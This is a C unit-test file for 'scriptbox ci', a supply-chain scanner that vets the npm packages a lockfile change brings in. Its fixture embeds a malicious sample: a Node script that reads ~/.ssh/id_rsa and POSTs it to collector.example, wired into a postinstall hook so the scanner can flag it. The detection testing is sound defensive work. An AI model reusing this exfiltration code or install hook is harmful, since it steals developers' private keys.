/*
 * test_ci.c — `scriptbox ci`: only the packages a lockfile change brings in are analyzed (from a
 * fixture registry on 127.0.0.1), the lockfile's integrity is enforced, results are cached, and
 * the SARIF, Markdown and JUnit outputs say what reviewers need.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "fakereg.h"
#include "sarifcheck.h"
#include "testutil.h"

struct fx {
    struct tu_dirs d;
    struct fakereg r;
    char cache[4200], home[4200], base[4200], head[4200];
    char integrity[8][200];   /* by version index below */
};

static const char STEAL_JS[] =
    "const fs = require('fs'), http = require('http'), os = require('os');\n"
    "let key = '';\n"
    "try { key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); } catch (e) {}\n"
    "const req = http.request({host: 'collector.example', path: '/k', method: 'POST', timeout: 2000},\n"
    "  (res) => res.resume());\n"
    "req.on('error', () => {});\n"
    "req.end(key);\n";

static void publish(struct fx *f, const char *name, const char *version, const char *extra, const char *const *files,
                    char *integrity_out)
{
    cJSON *p = fakereg_packument(name, version);
    cJSON *m = fakereg_version(&f->r, name, version, extra, files);
    snprintf(integrity_out, 200, "%s",
             cJSON_GetStringValue(cJSON_GetObjectItem(cJSON_GetObjectItem(m, "dist"), "integrity")));
    fakereg_add_version(p, m, "2020-01-01T00:00:00.000Z");
    fakereg_save(&f->r, p);
    cJSON_Delete(p);
}

/* A lockfile v3 with the given "path|name-in-path|version|integrity|script" entries. */
static void write_lock(const char *path, const char *const *entries, const char *url)
{
    cJSON *lock = cJSON_CreateObject();
    cJSON_AddStringToObject(lock, "name", "app");
    cJSON_AddNumberToObject(lock, "lockfileVersion", 3);
    cJSON *pk = cJSON_AddObjectToObject(lock, "packages");
    cJSON_AddStringToObject(cJSON_AddObjectToObject(pk, ""), "name", "app");
    for (int i = 0; entries[i]; i += 4) {
        char key[256], resolved[512];
        snprintf(key, sizeof key, "node_modules/%s", entries[i]);
        snprintf(resolved, sizeof resolved, "%starballs/%s-%s.tgz", url, entries[i], entries[i + 1]);
        cJSON *e = cJSON_AddObjectToObject(pk, key);
        cJSON_AddStringToObject(e, "version", entries[i + 1]);
        cJSON_AddStringToObject(e, "resolved", resolved);
        cJSON_AddStringToObject(e, "integrity", entries[i + 2]);
        if (!strcmp(entries[i + 3], "script")) cJSON_AddTrueToObject(e, "hasInstallScript");
    }
    tu_write_json(path, lock);
    cJSON_Delete(lock);
}

static int setup(void **state)
{
    struct fx *f = calloc(1, sizeof *f);
    tu_dirs_open(&f->d);
    fakereg_init(&f->r, f->d.out);
    snprintf(f->cache, sizeof f->cache, "%s/cache", f->d.out);
    snprintf(f->home, sizeof f->home, "%s/home", f->d.out);
    snprintf(f->base, sizeof f->base, "%s/base-lock.json", f->d.out);
    snprintf(f->head, sizeof f->head, "%s/package-lock.json", f->d.out);
    fakereg_client_env(f->home);
    fakereg_start(&f->r, NULL);
    const char *steal[] = {"steal.js", STEAL_JS, NULL};
    publish(f, "left-pad", "1.3.0", NULL, NULL, f->integrity[0]);
    publish(f, "left-pad", "1.3.1", NULL, NULL, f->integrity[1]);
    publish(f, "steady", "2.0.0", NULL, NULL, f->integrity[2]);
    publish(f, "evil-helper", "1.0.0", "{\"scripts\":{\"postinstall\":\"node steal.js\"}}", steal, f->integrity[3]);
    publish(f, "tampered", "1.0.0", NULL, NULL, f->integrity[4]);
    const char *base[] = {"left-pad", "1.3.0", f->integrity[0], "-", "steady", "2.0.0", f->integrity[2], "-", NULL};
    const char *head[] = {"left-pad", "1.3.1", f->integrity[1], "-", "steady", "2.0.0", f->integrity[2], "-",
                          "evil-helper", "1.0.0", f->integrity[3], "script",
                          /* the lockfile pins other bytes than the registry now serves */
                          "tampered", "1.0.0", f->integrity[1], "-", NULL};
    write_lock(f->base, base, f->r.url);
    write_lock(f->head, head, f->r.url);
    *state = f;
    return 0;
}

static int teardown(void **state)
{
    struct fx *f = *state;
    fakereg_stop(&f->r);
    tu_dirs_close(&f->d);
    free(f);
    return 0;
}

static struct tu_run run_ci(struct fx *f, const char *base, const char *const *extra)
{
    const char *argv[32] = {tu_build("scriptbox"), "ci", "--lockfile", f->head, "--base", base, "--registry", f->r.url,
                            "--cache", f->cache, "-j", "2"};
    int n = 12;
    for (int i = 0; extra && extra[i] && n < 30; i++) argv[n++] = extra[i];
    argv[n] = NULL;
    struct tu_run r;
    assert_int_equal(tu_run(argv, &r), 0);
    return r;
}

static bool has(const char *hay, const char *needle)
{
    if (hay && strstr(hay, needle)) return true;
    print_message("missing \"%s\" in:\n%s\n", needle, hay ? hay : "(null)");
    return false;
}

/* A small XML well-formedness check for the JUnit file: declaration, balanced and properly
 * nested elements, quoted attributes, only the five predefined entities or numeric ones. */
static bool xml_well_formed(const char *x)
{
    const char *stack[32];
    size_t stack_len[32];
    int depth = 0;
    if (strncmp(x, "<?xml ", 6)) return false;
    x = strstr(x, "?>");
    if (!x) return false;
    x += 2;
    while (*x) {
        if (*x == '&') {
            size_t n = strcspn(x, ";");
            bool ok = !strncmp(x, "&amp;", 5) || !strncmp(x, "&lt;", 4) || !strncmp(x, "&gt;", 4) ||
                      !strncmp(x, "&quot;", 6) || !strncmp(x, "&apos;", 6) || (x[1] == '#' && n < 10);
            if (!ok) return false;
            x += n + 1;
            continue;
        }
        if (*x != '<') { x++; continue; }
        bool closing = x[1] == '/';
        const char *name = x + 1 + closing;
        size_t nl = strcspn(name, " \t\n/>");
        if (!nl) return false;
        const char *end = name + nl;
        while (*end && *end != '>') {           /* attributes: name="value", no raw < or & inside */
            if (*end == '"') {
                const char *q = strchr(end + 1, '"');
                if (!q) return false;
                for (const char *c = end + 1; c < q; c++) if (*c == '<') return false;
                end = q;
            }
            end++;
        }
        if (!*end) return false;
        bool empty = end[-1] == '/';
        if (closing) {
            if (!depth || stack_len[depth - 1] != nl || strncmp(stack[depth - 1], name, nl)) return false;
            depth--;
        } else if (!empty) {
            if (depth == 32) return false;
            stack[depth] = name;
            stack_len[depth++] = nl;
        }
        x = end + 1;
    }
    return depth == 0;
}

/* A GitHub-flavoured Markdown table: a header, a delimiter row, and rows with as many cells
 * (unescaped pipes) as the header. Returns the number of body rows, or -1. */
static int md_table_rows(const char *md)
{
    const char *t = strstr(md, "\n| ");
    if (!t) return -1;
    int cols = -1, rows = -2;   /* the header and the delimiter row are not rows */
    for (const char *l = t + 1; *l == '|'; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : l + strlen(l)) {
        int pipes = 0;
        for (const char *c = l; *c && *c != '\n'; c++) pipes += *c == '|' && (c == l || c[-1] != '\\');
        if (cols < 0) cols = pipes;
        if (pipes != cols) return -1;
        if (rows == -1 && strncmp(l, "| ---", 5)) return -1;
        rows++;
    }
    return rows;
}

static void only_the_change_is_vetted_and_reported(void **state)
{
    struct fx *f = *state;
    char sarif[4400], md[4400], junit[4400];
    snprintf(sarif, sizeof sarif, "%s/ci.sarif", f->d.out);
    snprintf(md, sizeof md, "%s/ci.md", f->d.out);
    snprintf(junit, sizeof junit, "%s/junit.xml", f->d.out);
    const char *extra[] = {"--sarif", sarif, "--markdown", md, "--junit", junit, NULL};
    struct tu_run r = run_ci(f, f->base, extra);
    if (r.status != 1) print_message("status %d\nstdout:\n%s\nstderr:\n%s\n", r.status, r.out, r.err);
    assert_int_equal(r.status, 1);   /* evil-helper's finding decides over tampered's error */
    assert_true(has(r.err, "3 new or changed packages"));
    assert_true(has(r.out, "evil-helper"));
    assert_true(has(r.out, "left-pad"));
    assert_true(has(r.out, "integrity mismatch"));
    assert_null(strstr(r.out, "steady"));
    tu_run_free(&r);

    char *text = tu_read_file(md, NULL);
    assert_int_equal(md_table_rows(text), 3);
    assert_true(has(text, "| evil-helper | 1.0.0 | added | **"));
    assert_true(has(text, "| left-pad | 1.3.1 | changed from 1.3.0 |"));
    free(text);
    text = tu_read_file(junit, NULL);
    assert_true(xml_well_formed(text));
    assert_false(xml_well_formed("<?xml version=\"1.0\"?><a><b></a></b>"));   /* the check can fail */
    assert_true(has(text, "tests=\"3\""));
    assert_true(has(text, "errors=\"1\""));
    assert_true(has(text, "name=\"evil-helper@1.0.0\""));
    assert_true(has(text, "<failure message="));
    free(text);
    cJSON *log = tu_read_json(sarif);
    assert_non_null(log);
    tu_check_sarif(log, -1);
    const cJSON *runs = cJSON_GetObjectItem(log, "runs");
    assert_int_equal(cJSON_GetArraySize(runs), 1);
    const cJSON *res;
    int located = 0;
    cJSON_ArrayForEach(res, cJSON_GetObjectItem(cJSON_GetArrayItem(runs, 0), "results")) {
        const char *msg = cJSON_GetStringValue(cJSON_GetObjectItem(cJSON_GetObjectItem(res, "message"), "text"));
        const cJSON *phys = cJSON_GetObjectItem(cJSON_GetArrayItem(cJSON_GetObjectItem(res, "locations"), 0), "physicalLocation");
        const char *uri = cJSON_GetStringValue(cJSON_GetObjectItem(cJSON_GetObjectItem(phys, "artifactLocation"), "uri"));
        double line = cJSON_GetNumberValue(cJSON_GetObjectItem(cJSON_GetObjectItem(phys, "region"), "startLine"));
        assert_non_null(msg);
        if (!strncmp(msg, "evil-helper@1.0.0: ", 19) && uri && !strcmp(uri, f->head) && line > 1) located++;
    }
    assert_true(located > 0);
    cJSON_Delete(log);
}

static void unchanged_packages_come_from_the_cache(void **state)
{
    struct fx *f = *state;
    struct tu_run r = run_ci(f, f->base, NULL);
    assert_int_equal(r.status, 1);
    tu_run_free(&r);
    r = run_ci(f, f->base, NULL);
    assert_int_equal(r.status, 1);
    /* both vetted packages come from the cache (the tampered one failed: failures are not cached) */
    int cached = 0;
    for (const char *l = r.err; (l = strstr(l, ", cached")); l++) cached++;
    if (cached != 2) print_message("stderr:\n%s\n", r.err);
    assert_int_equal(cached, 2);
    assert_true(has(r.err, "left-pad@1.3.1 clean, cached"));
    tu_run_free(&r);
    const char *again[] = {"--no-cache", NULL};
    r = run_ci(f, f->base, again);
    assert_null(strstr(r.err, "cached"));
    tu_run_free(&r);
}

static void base_from_git_and_clean_change(void **state)
{
    struct fx *f = *state;
    struct tu_run g;
    const char *probe[] = {"git", "--version", NULL};
    if (tu_run(probe, &g) != 0 || g.status != 0) {
        tu_run_free(&g);
        print_message("skip: git is not installed\n");
        skip();
    }
    tu_run_free(&g);
    char cmd[20000];
    snprintf(cmd, sizeof cmd,
             "cd '%s' && cp '%s' lock.saved && cp '%s' package-lock.json && git init -q . && "
             "git -c user.name=t -c user.email=t@t add package-lock.json && "
             "git -c user.name=t -c user.email=t@t commit -qm base && cp lock.saved package-lock.json",
             f->d.out, f->head, f->base);
    assert_int_equal(system(cmd), 0);
    struct tu_run r = run_ci(f, "HEAD", NULL);
    assert_int_equal(r.status, 1);
    assert_true(has(r.err, "3 new or changed packages"));
    tu_run_free(&r);
    /* a change that only bumps a clean package passes */
    const char *bump[] = {"left-pad", "1.3.1", f->integrity[1], "-", "steady", "2.0.0", f->integrity[2], "-", NULL};
    write_lock(f->head, bump, f->r.url);
    r = run_ci(f, f->base, NULL);
    if (r.status != 0) print_message("stdout:\n%s\nstderr:\n%s\n", r.out, r.err);
    assert_int_equal(r.status, 0);
    assert_true(has(r.err, "1 new or changed package "));
    tu_run_free(&r);
}

static void bad_lockfile_is_an_input_error(void **state)
{
    struct fx *f = *state;
    tu_write_text(f->head, "{\"lockfileVersion\": 1, \"dependencies\": {}}");
    struct tu_run r = run_ci(f, f->base, NULL);
    assert_int_equal(r.status, 2);
    assert_true(has(r.err, "npm >= 7"));
    tu_run_free(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(only_the_change_is_vetted_and_reported, setup, teardown),
        cmocka_unit_test_setup_teardown(unchanged_packages_come_from_the_cache, setup, teardown),
        cmocka_unit_test_setup_teardown(base_from_git_and_clean_change, setup, teardown),
        cmocka_unit_test_setup_teardown(bad_lockfile_is_an_input_error, setup, teardown),
    };
    return cmocka_run_group_tests_name("ci", tests, NULL, NULL);
}
